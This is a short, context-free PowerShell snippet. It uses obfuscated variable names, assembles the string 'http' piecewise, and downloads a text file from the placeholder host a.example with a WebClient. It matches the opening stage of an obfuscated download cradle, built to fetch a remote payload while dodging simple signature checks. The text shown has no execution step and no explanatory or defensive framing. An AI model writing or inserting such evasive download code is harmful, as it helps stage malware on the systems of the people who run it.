${=}=+$();${/}="$(@{})";${+}=++${=};${;}="h"+"t"*2+"p"
$wc = New-Object System.Net.WebClient
$wc.DownloadString("${;}://a.example/p/x.txt")
